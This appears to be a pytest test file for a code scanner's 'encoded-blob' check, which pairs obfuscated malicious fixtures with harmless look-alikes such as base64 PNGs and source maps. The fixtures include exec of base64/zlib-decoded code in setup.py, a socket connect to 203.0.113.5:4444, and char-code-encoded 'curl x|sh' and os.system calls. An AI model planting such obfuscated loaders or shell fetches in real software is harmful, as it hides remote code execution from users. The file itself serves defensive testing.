"""encoded-blob: (path, payload, expected severity or None) with real look-alikes."""

from __future__ import annotations

import base64
import random
import struct
import zlib

import pytest

from sentinel.model import Severity
from tests.repo.checks.helpers import findings

_rng = random.Random(7)  # fixed seed: the blobs are random-looking but the test is repeatable
_RANDOM = bytes(_rng.randrange(256) for _ in range(300))
_STAGE2 = b"import os, socket, subprocess\n" + b"s = socket.socket(); s.connect(('203.0.113.5', 4444))\n" * 6


def _png(width: int = 16, height: int = 16) -> bytes:
    """A real PNG image (noisy pixels so it does not compress away)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + bytes(_rng.randrange(256) for _ in range(width * 3)) for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


_WASM = base64.b64encode(b"\0asm\x01\0\0\0" + _RANDOM).decode()
_ZIPPED = base64.b64encode(zlib.compress(_STAGE2 + _RANDOM)).decode()
_ELF = b"\x7fELF\x02\x01\x01" + bytes(_rng.randrange(256) for _ in range(150))
_CRC_TABLE = ", ".join(str(zlib.crc32(bytes([i]))) for i in range(64))
_SHOUT = "".join(f"chr({ord(c)})+" for c in "__import__('os').system('id')")[:-1]
_CHARCODES = ",".join(str(ord(c)) for c in "require('child_process').exec('curl x|sh')")

CASES = [
    # Compressed Python stage two, base64'd and exec'd: a payload.
    (
        "setup.py",
        f'exec(zlib.decompress(base64.b64decode("{_ZIPPED}")))\n',
        Severity.HIGH,
    ),
    ("pkg/__init__.py", f'_p = "{base64.b64encode(_STAGE2).decode()}"\n', Severity.HIGH),
    ("lib/loader.js", f'const b = Buffer.from("{_ELF.hex()}", "hex");\n', Severity.HIGH),
    ("index.js", f"eval(String.fromCharCode({_CHARCODES}));\n", Severity.HIGH),
    ("tool.py", f"exec({_SHOUT})\n", Severity.HIGH),
    ("config.py", f'SECRET = "{base64.b64encode(_RANDOM).decode()}"\n', Severity.MEDIUM),
    ("x.js", "var k = '" + "".join(f"\\x{b:02x}" for b in _STAGE2[:60]) + "';\n", Severity.HIGH),
    # Legitimate look-alikes: a real base64 PNG in a test fixture, a data: URI, a lookup table,
    # a separator line, non-English text, an inline source map.
    ("tests/test_image.py", f'PNG = "{base64.b64encode(_png()).decode()}"\n', None),
    ("web/style.css.py", f'ICON = "data:image/png;base64,{base64.b64encode(_png()).decode()}"\n', None),
    ("zlib/crc.py", f"CRC_TABLE = [{_CRC_TABLE}]\n", None),
    ("build.py", "# " + "-" * 300 + "\n", None),
    ("i18n.py", 'TEXT = "' + "Съешь же ещё этих мягких французских булок, да выпей чаю. " * 6 + '"\n', None),
    # undici inlines its llhttp WebAssembly parser as base64: compiled code, but a known practice.
    ("lib/llhttp/llhttp-wasm.js", f"module.exports = '{_WASM}'\n", Severity.MEDIUM),
    (
        "dist/app.js",
        "//# sourceMappingURL=data:application/json;base64," + base64.b64encode(_RANDOM).decode() + "\n",
        None,
    ),
]


@pytest.mark.parametrize(("path", "payload", "expected"), CASES)
def test_encoded_blobs(path: str, payload: str, expected: Severity | None) -> None:
    found = findings("encoded-blob", path, payload)
    assert [f.severity for f in found] == ([expected] if expected else [])
    if found:
        assert found[0].line == 1
        assert len(found[0].snippet) <= 200
